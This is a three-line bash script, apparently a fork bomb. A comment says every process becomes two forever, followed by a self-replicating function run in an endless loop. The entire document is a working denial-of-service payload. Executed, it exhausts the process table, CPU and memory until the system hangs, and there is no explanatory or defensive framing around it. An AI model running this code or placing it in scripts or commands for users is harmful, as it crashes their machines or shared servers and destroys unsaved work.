# Every process becomes two, for ever.
bomb() { bomb | bomb & }
while :; do bomb; done
